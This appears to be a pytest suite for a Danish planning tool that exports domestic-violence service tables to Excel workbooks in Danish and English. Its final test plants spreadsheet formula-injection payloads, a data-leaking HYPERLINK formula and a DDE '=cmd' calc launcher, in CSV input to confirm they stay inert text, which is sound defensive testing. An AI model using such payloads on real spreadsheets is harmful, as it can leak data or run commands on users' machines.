"""Workbooks for people, from every command that writes one: opened with openpyxl in both languages.

The commands are taken from the command line's own registry (every command whose --format offers xlsx), so a new
table command without a case here fails. Under --lang da no header and no value may be an English field name or
an id (`evidence_label`, `secondary`, `note-estimate`); under --lang en none may be a field name or a hyphenated
id. Every workbook has one sheet per table, a frozen header row, a filled method-and-sources sheet last, and its
"wrote FILE" notice in the user's language."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import yaml

openpyxl = pytest.importorskip("openpyxl")

ROOT = Path(__file__).resolve().parents[1]
OFFERS = ("Tilbud;Indsats;Fase;Målgruppe;Pladser;Lov;Kommune;Udbyder;Årlig udgift (kr.)\r\n"
          "Krisecenter Nordby;Kvindekrisecentre;Sekundær;Voldsudsatte, Kvinder;14;§ 109;Horsens;Kommunen;4.500.000\r\n"
          "Mandekrisecenter;;Sekundær;Mænd;6;§ 109;Horsens;Mandecentret;1.200.000\r\n"
          "Behandling;Dialog mod Vold;;;;;Hedensted;DMV;350.000\r\n"
          "Vredeskursus;Anger Management;;;;;Horsens;Kommunen;80.000\r\n")

#: Arguments for each command whose result is a table ({offers}: the file above).
CASES: dict[str, list[list[str]]] = {
    "estimate": [["-p", "43000"], ["-m", "Horsens"], ["-m", "Horsens", "-m", "Hedensted"],
                 ["--region", "Midtjylland"], ["--all"]],
    "interventions": [[], ["safe-dates"], ["--phase", "secondary"]],
    "law": [[], ["109"]],
    "initiatives": [[], ["intervention-centre-east-jutland"]],
    "map": [[]],
    "check": [["{offers}"], ["{offers}", "-m", "Horsens"], ["{offers}", "--region", "Midtjylland"],
              ["{offers}", "--region", "Midtjylland", "--scope", "region"]],
}

#: Keys of JSON answers whose values are ids or closed vocabularies (never words for people).
ID_KEYS = {"id", "kind", "level", "part", "phase", "phases", "target", "targets", "target_group", "target_groups",
           "evidence", "strongest", "duty", "match", "scope", "reason", "by", "via", "approx", "status", "measure",
           "act", "act_kind", "designs", "tried_in_denmark", "section", "data", "intervention", "interventions",
           "laws", "initiatives", "cell", "phases_from", "targets_from"}


def table_commands() -> list[str]:
    """The commands whose --format offers xlsx, from the command registry."""
    from workbooks import commands_offering

    return commands_offering("xlsx")


def test_every_table_command_has_cases() -> None:
    assert sorted(table_commands()) == sorted(CASES)


def _knowledge_ids() -> set[str]:
    ids: set[str] = set()

    def walk(node: object) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "id" and isinstance(value, str):
                    ids.add(value)
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    for path in (ROOT / "knowledge").glob("*.yaml"):
        walk(yaml.safe_load(path.read_text(encoding="utf-8")))
    return ids


def _json_words(node: object, keys: set[str], ids: set[str]) -> None:
    """The field names of a JSON answer, and the values of its id fields."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "own":  # the planner's own columns: their headers are the planner's words
                continue
            keys.add(key)
            if key in ID_KEYS:
                values = value if isinstance(value, list) else [value]
                ids.update(v for v in values if isinstance(v, str) and v and " " not in v)
            _json_words(value, keys, ids)
    elif isinstance(node, list):
        for value in node:
            _json_words(value, keys, ids)


def _args(command: str, args: list[str], offers: Path) -> list[str]:
    return [command, *(str(offers) if a == "{offers}" else a for a in args)]


def _cells(book) -> list[tuple[str, int, str]]:
    """(sheet, row, text) of every text cell, one line at a time."""
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    out += [(sheet.title, cell.row, line.strip()) for line in cell.value.splitlines() if line.strip()]
    return out


CASE_IDS = [(command, i) for command, cases in CASES.items() for i in range(len(cases))]


@pytest.mark.parametrize("lang", ["da", "en"])
@pytest.mark.parametrize("command, index", CASE_IDS, ids=[f"{c}-{i}" for c, i in CASE_IDS])
def test_workbook_for_people(run, tmp_path: Path, command: str, index: int, lang: str) -> None:
    offers = tmp_path / "tilbud.csv"
    offers.write_bytes(OFFERS.encode("cp1252"))
    args = _args(command, CASES[command][index], offers)
    target = tmp_path / "bog.xlsx"
    result = run(*args, "--format", "xlsx", "-o", str(target), "--lang", lang)
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    notice = [line for line in result.stderr.splitlines() if "bog.xlsx" in line]
    assert notice == [f"Skrev {target} ({target.stat().st_size:,} byte).".replace(",", ".") if lang == "da"
                      else f"Wrote {target} ({target.stat().st_size:,} bytes)."]
    book = openpyxl.load_workbook(target)
    method = "Metode og kilder" if lang == "da" else "Method and sources"
    assert book.sheetnames[-1] == method and len(book.sheetnames) >= 2
    about = list(book[method].iter_rows(values_only=True))
    assert about[0] == (("Emne", "Tekst") if lang == "da" else ("Topic", "Text"))
    assert len(about) >= 4 and all(topic and text for topic, text in about[1:])
    assert any("Socialstyrelsen" in str(text) for _, text in about)  # the note, as the source
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        headers = [c.value for c in sheet[1]]
        assert headers and all(isinstance(h, str) and h.strip() for h in headers), (sheet.title, headers)

    data = json.loads(run(*args, "--format", "json", "--lang", lang).stdout)
    keys: set[str] = set()
    ids: set[str] = set()
    _json_words(data, keys, ids)
    if lang == "da":
        forbidden = keys | ids | _knowledge_ids()
    else:  # English words may be ids too ('yes', 'women'): the hyphenated ids and the field names are never words
        forbidden = {k for k in keys if "_" in k} | {i for i in ids | _knowledge_ids() if "-" in i}
    bad = [(sheet, row, text) for sheet, row, text in _cells(book) if text in forbidden]
    assert not bad, bad[:10]
    # figures are numbers: every sheet of figures stores them as numbers, with the table's words as their format
    numbers = [c for sheet in book.worksheets[:-1] for row in sheet.iter_rows(min_row=2) for c in row
               if isinstance(c.value, int | float) and not isinstance(c.value, bool)]
    if command == "check" or any(a in args for a in ("-m", "-p", "--region", "--all")):
        assert numbers


def test_estimate_region_workbook_has_one_sheet_per_kind_of_table(run, tmp_path: Path) -> None:
    """It once mixed estimates, costs, newer figures and municipalities in one 52-row sheet with English headers."""
    target = tmp_path / "region.xlsx"
    assert run("estimate", "--region", "Midtjylland", "-f", "xlsx", "-o", str(target), "--lang", "da").exit_code == 0
    book = openpyxl.load_workbook(target)
    names = book.sheetnames
    assert len(names) >= 6 and len(set(names)) == len(names)
    for wanted in ("Forventet antal lokalt", "Omkostninger", "Kommunerne i Region Midtjylland"):
        assert any(n.startswith(wanted[:25]) for n in names), (wanted, names)
    costs = book[next(n for n in names if n.startswith("Omkostninger"))]
    local = [row[2] for row in costs.iter_rows(min_row=2, values_only=True)]
    assert local == [36_000_000, 19_000_000, 2_200_000, 7_300_000]  # rounded as the note rounds, not 35832494
    cell = costs.cell(row=2, column=3)
    assert cell.number_format == '"ca. "#,##0" kr."'
    members = book[next(n for n in names if n.startswith("Kommunerne"))]
    assert [c.value for c in members[1]] == ["Kommune", "Kode", "Folketal 2024"]
    assert tuple(c.value for c in members[2])[:2] == ("Horsens", "615")  # the name beside the code


def test_comparison_names_its_areas(run, tmp_path: Path) -> None:
    """It once showed region 1082 instead of a name: the table shows each municipality by name."""
    target = tmp_path / "cmp.xlsx"
    assert run("estimate", "-m", "Horsens", "-m", "Hedensted", "-f", "xlsx", "-o", str(target),
               "--lang", "da").exit_code == 0
    sheet = openpyxl.load_workbook(target).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:2] == ("Område", "Folketal")
    assert [r[0] for r in rows[1:]] == ["Horsens", "Hedensted"]
    assert not any(v == "1082" or v == 1082 for r in rows for v in r)


def test_check_workbook_holds_the_planner_s_columns_and_numbers(run, tmp_path: Path) -> None:
    offers = tmp_path / "tilbud.csv"
    offers.write_bytes(OFFERS.encode("cp1252"))
    target = tmp_path / "tjek.xlsx"
    result = run("check", str(offers), "-m", "Horsens", "-f", "xlsx", "-o", str(target), "--lang", "da")
    assert result.exit_code == 0, result.stderr
    book = openpyxl.load_workbook(target)
    first = book.worksheets[0]
    headers = [c.value for c in first[1]]
    assert headers[0] == "Tilbud"
    assert {"Udbyder", "Årlig udgift (kr.)", "Kommune"} <= set(headers)
    amount = headers.index("Årlig udgift (kr.)")
    values = [row[amount] for row in first.iter_rows(min_row=2, values_only=True)]
    assert sorted(values) == sorted([4_500_000, 1_200_000, 350_000, 80_000])
    assert any(n.startswith("Kommunens egne beløb") for n in book.sheetnames)
    law = [n for n in book.sheetnames if n.startswith(("Det, kommunen", "Andre myndigheders"))]
    assert len(law) == 2  # the municipality's provisions and the other authorities', each on its sheet


def test_text_that_looks_like_a_formula_stays_text(run, tmp_path: Path) -> None:
    offers = tmp_path / "t.csv"
    offers.write_text('tilbud;Udbyder\r\n"=HYPERLINK(""http://x""&A1,""Klik"")";=cmd|\' /C calc\'!A0\r\n',
                      encoding="utf-8")
    target = tmp_path / "t.xlsx"
    assert run("check", str(offers), "-f", "xlsx", "-o", str(target)).exit_code == 0
    cells = [c for sheet in openpyxl.load_workbook(target).worksheets for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and re.match(r"=", c.value)]
    assert len(cells) >= 2 and all(c.data_type == "s" for c in cells)
